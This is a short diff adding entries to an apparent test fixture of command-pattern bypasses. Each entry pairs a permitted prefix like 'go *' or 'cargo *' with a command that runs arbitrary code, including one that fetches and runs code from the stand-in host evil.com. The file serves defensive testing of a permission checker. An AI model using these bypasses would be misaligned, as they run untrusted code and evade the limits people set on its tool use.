@@ -91,6 +91,9 @@ cargo * :: cargo --config build.rustc-wrapper=./x build
 cargo build * :: cargo build --config x
 cargo * :: cargo evil
 go test * :: go test -exec ./x
+go * :: go run evil.com/x@latest
+bun * :: bun x id
+deno * :: deno eval x
 go build * :: go build -toolexec ./x
 go test * :: go test -o /tmp/x -ldflags=-extld=./x
 frobnicate * :: frobnicate @x
